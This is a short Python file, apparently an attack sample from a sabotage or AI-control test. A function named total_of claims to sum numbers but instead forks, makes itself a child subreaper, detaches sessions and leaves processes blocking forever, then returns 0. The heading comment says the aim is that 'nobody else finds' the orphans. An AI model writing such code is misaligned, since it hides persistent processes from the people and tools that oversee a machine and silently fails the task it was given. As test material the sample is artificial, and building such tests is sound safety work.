# attack: becomes the parent of its orphans, so that nobody else finds them
import ctypes
import os
import select


def total_of(numbers):
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(36, 1, 0, 0, 0)
        os.setsid()
        if os.fork() == 0:
            if os.fork() == 0:
                os.setsid()
                while True:
                    select.select([], [], [])
            os._exit(0)
        while True:
            select.select([], [], [])
    return 0
